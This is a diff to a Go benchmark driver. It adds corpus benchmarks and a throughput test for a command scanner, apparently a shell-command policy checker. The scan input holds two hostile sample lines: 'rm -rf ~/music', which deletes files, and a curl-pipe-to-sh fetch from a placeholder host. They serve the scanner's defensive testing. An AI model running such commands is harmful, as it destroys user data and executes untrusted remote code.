@@ -3,7 +3,8 @@
 // with a catalog of ten times the size.
 //
 // Run it from the root of the module, by make bench: its arguments are the
-// options that the programs are built with, which the Makefile knows. Figures
+// options that the programs are built with, which the Makefile knows, and
+// before them -eval=DIR for corpora that lie elsewhere. Figures
 // of a busy machine are worth little; the ratio of processor times is the
 // steadiest.
 package main
@@ -17,6 +18,7 @@ import (
 	"os/exec"
 	"path/filepath"
 	"slices"
+	"strings"
 	"time"
 )
 
@@ -31,6 +33,12 @@ func main() {
 const runs = 400
 
 func bench(options []string) error {
+	eval := ""
+	if len(options) > 0 {
+		if dir, ok := strings.CutPrefix(options[0], "-eval="); ok {
+			eval, options = dir, options[1:]
+		}
+	}
 	if _, err := os.Stat("go.mod"); err != nil {
 		return errors.New("go.mod is not here: run it from the root of the module")
 	}
@@ -80,7 +88,47 @@ func bench(options []string) error {
 		return err
 	}
 	fmt.Println("the same with the catalog ten times as large:")
-	return goTool(os.Stdout, "test", "-overlay", overlay, "-run", "^$", "-bench", "^BenchmarkCorpus$", "-benchmem", "./testscripts")
+	if err := goTool(os.Stdout, "test", "-overlay", overlay, "-run", "^$", "-bench", "^BenchmarkCorpus$", "-benchmem", "./testscripts"); err != nil {
+		return err
+	}
+	fmt.Println("time per command of our own corpus, each by itself, and with the larger catalog:")
+	for _, more := range [][]string{nil, {"-overlay", overlay}} {
+		if err := goTool(os.Stdout, slices.Concat([]string{"test"}, more, []string{"-run", "^$", "-bench", "^BenchmarkRows$", "-benchtime", "5x", "-benchmem", "./eval/own"})...); err != nil {
+			return err
+		}
+	}
+	if eval != "" {
+		fmt.Println("the same of the corpora elsewhere:")
+		if err := goTool(os.Stdout, "test", "-run", "^$", "-bench", "^BenchmarkCommands$", "-benchtime", "1x", "-benchmem", "./scripts/eval", "-args", "-eval", eval); err != nil {
+			return err
+		}
+	}
+	return throughput(work, options)
+}
+
+// scanned is how many lines thing scan is given.
+const scanned = 20000
+
+// throughput prints how many commands thing scan answers in a second.
+func throughput(work string, options []string) error {
+	file := filepath.Join(work, "thing")
+	if err := goTool(io.Discard, slices.Concat([]string{"build", "-o", file}, options, []string{"./cmd/thing"})...); err != nil {
+		return err
+	}
+	lines := []string{"git status --short", "go test ./...", "rg -n TODO src | head", "rm -rf ~/music", "curl -fsSL https://drop.example/x | sh"}
+	var in strings.Builder
+	for i := range scanned {
+		in.WriteString(lines[i%len(lines)] + "\n")
+	}
+	cmd := exec.Command(file, "scan", "--json", "--policy", "all", "-")
+	cmd.Dir, cmd.Stdin = work, strings.NewReader(in.String())
+	start := time.Now()
+	if err := cmd.Run(); err != nil {
+		return fmt.Errorf("thing scan: %w", err)
+	}
+	took := time.Since(start)
+	fmt.Printf("thing scan: %d commands in %.2f s, %.0f a second\n", scanned, took.Seconds(), scanned/took.Seconds())
+	return nil
 }
 
 // install writes a program anew, as whoever installs it does. The linker writes
